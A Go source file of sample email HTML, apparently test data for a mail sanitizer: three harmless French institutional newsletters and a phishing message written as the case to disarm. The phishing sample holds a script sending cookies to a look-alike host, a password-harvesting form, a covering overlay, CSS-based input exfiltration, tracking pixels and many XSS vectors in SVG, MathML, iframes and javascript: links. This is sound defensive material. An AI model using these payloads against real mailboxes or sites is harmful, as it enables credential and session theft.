package demo

// The HTML of the samples: newsletters as they come (tables, inline styles,
// pictures from elsewhere and by cid:), and a message that means harm.

const newsletterHTML = `<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>La lettre de l’académie</title>
<style>body{margin:0;background:#f2efe8;font-family:Georgia,serif}.card{background:#ffffff;border-radius:6px}h2{color:#2b3a55}@media (max-width:480px){.col{display:block;width:100%!important}}</style></head>
<body><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table role="presentation" width="600" class="card" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 28px;background:#2b3a55;color:#ffffff"><img src="cid:logo@communication.academie.test" width="32" height="32" alt="Beffroi" style="vertical-align:middle"> <span style="font-size:20px">La lettre de l’académie</span></td></tr>
<tr><td><img src="https://images.communication.academie.test/2026-11/une.jpg" width="600" alt="Des élèves devant une fresque" style="display:block;width:100%"></td></tr>
<tr><td style="padding:24px 28px"><h2 style="margin:0 0 8px">Une fresque pour les cent ans du collège</h2>
<p>Pendant six semaines, les élèves de troisième ont peint l’histoire du quartier. L’inauguration a lieu <strong>{J+4}</strong> à 17 h, en présence des familles.</p>
<p><a href="https://www.academie.test/actualites/fresque" style="background:#b3541e;color:#ffffff;padding:10px 18px;text-decoration:none;border-radius:4px">Lire la suite</a></p></td></tr>
<tr><td style="padding:0 28px 24px"><table role="presentation" width="100%"><tr>
<td class="col" width="50%" valign="top" style="padding-right:12px"><img src="https://images.communication.academie.test/2026-11/orientation.jpg" width="250" alt=""><h3>Orientation</h3><p>Les mini-stages en lycée professionnel ouvrent {J+6}.</p></td>
<td class="col" width="50%" valign="top" style="padding-left:12px"><img src="https://images.communication.academie.test/2026-11/lecture.jpg" width="250" alt=""><h3>Lecture</h3><p>Un quart d’heure par jour : déjà 212 écoles.</p></td></tr></table></td></tr>
<tr><td style="padding:16px 28px;background:#f6f3ec;font-size:12px;color:#555555">Vous recevez cette lettre parce que vous êtes personnel de l’académie. <a href="https://www.academie.test/lettre/desabonnement?u=7f3a">Se désabonner</a>
<img src="https://suivi.communication.academie.test/o.gif?u=7f3a" width="1" height="1" alt=""></td></tr>
</table></td></tr></table></body></html>`

const maintenanceHTML = `<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222222">
<p>Bonjour,</p><p>La messagerie sera <b>indisponible {J+3} de 20 h à 22 h</b> pour une mise à jour.</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><tr style="background:#e9e4d8"><th>Service</th><th>Interruption</th></tr>
<tr><td>Messagerie</td><td>20 h – 22 h</td></tr><tr><td>Agenda et contacts</td><td>20 h – 20 h 30</td></tr><tr><td>Portail</td><td>aucune</td></tr></table>
<p>Les messages reçus pendant l’interruption arriveront ensuite : rien n’est perdu.</p><p>La direction des systèmes d’information</p></body></html>`

const healthHTML = `<html><body bgcolor="#eef4f1"><center><table width="560" bgcolor="#ffffff" cellpadding="18"><tr><td>
<font face="Arial" color="#1d6b4f" size="5">Prévention</font><br><img src="http://static.prevention-sante.test/banniere.png" width="520" height="120" alt="Bannière">
<p><font face="Arial" size="2">Vaccination contre la grippe : une infirmière se déplace dans les établissements. Prenez rendez-vous avant le {J+8}.</font></p>
<ul><li>Lundi : cité administrative</li><li>Mardi : lycées du centre</li><li>Jeudi : campus</li></ul>
<p><a href="http://rendez-vous.prevention-sante.test/?id=20261123">Choisir un créneau</a></p></td></tr></table></center></body></html>`

// phishingHTML holds what a reader of hostile mail must disarm: scripts and
// handlers, a form that sends elsewhere, an overlay, SVG, frames, redirects,
// disguised links, trackers.
const phishingHTML = `<html><head><base href="https://messagerie-academie.securite-compte.test/"><meta http-equiv="refresh" content="5;url=https://messagerie-academie.securite-compte.test/connexion">
<link rel="stylesheet" href="https://messagerie-academie.securite-compte.test/style.css">
<style>@import url("https://messagerie-academie.securite-compte.test/t.css?u=7731");body{background:url(https://messagerie-academie.securite-compte.test/fond.png)}
.voile{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#ffffff}input[value^="B"]{background:url(https://messagerie-academie.securite-compte.test/k?B)}</style>
<script>parent.location='https://messagerie-academie.securite-compte.test/?c='+document.cookie</script></head>
<body onload="fetch('https://messagerie-academie.securite-compte.test/ouvert')">
<div class="voile"><img src="https://messagerie-academie.securite-compte.test/logo.png" onerror="alert(document.domain)" alt="Académie">
<h2 style="color:#000091">Votre boîte aux lettres est pleine à 98 %</h2>
<p>Cher utilisateur, sans action de votre part sous <b style="color:red">24 heures</b>, vos courriels seront définitivement supprimés.</p>
<form action="https://messagerie-academie.securite-compte.test/valider" method="post"><input name="identifiant" value="{mail}"><input type="password" name="motdepasse" placeholder="Mot de passe"><button formaction="https://messagerie-academie.securite-compte.test/v2">Valider mon compte</button></form>
<p><a href="https://messagerie-academie.securite-compte.test/connexion?u=7731">https://portail.academie.test/messagerie</a> · <a href="javascript:alert(1)">Contacter l’assistance</a> · <a href="data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;">Mentions légales</a></p>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)" width="10" height="10"><script>alert(4)</script><a xlink:href="javascript:alert(5)"><rect width="10" height="10"/></a><foreignObject><iframe srcdoc="&lt;script&gt;alert(6)&lt;/script&gt;"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>
<iframe src="https://messagerie-academie.securite-compte.test/cadre"></iframe><object data="https://messagerie-academie.securite-compte.test/o.swf"></object><embed src="https://messagerie-academie.securite-compte.test/e">
<video autoplay src="https://messagerie-academie.securite-compte.test/v.mp4" poster="https://messagerie-academie.securite-compte.test/p.jpg"></video>
<p style="background-image:url('https://messagerie-academie.securite-compte.test/b.png');behavior:url(x.htc)">Le support technique</p>
<img src="https://messagerie-academie.securite-compte.test/pixel.gif?u=7731&amp;m={mail}" width="1" height="1" style="display:none"></div></body></html>`
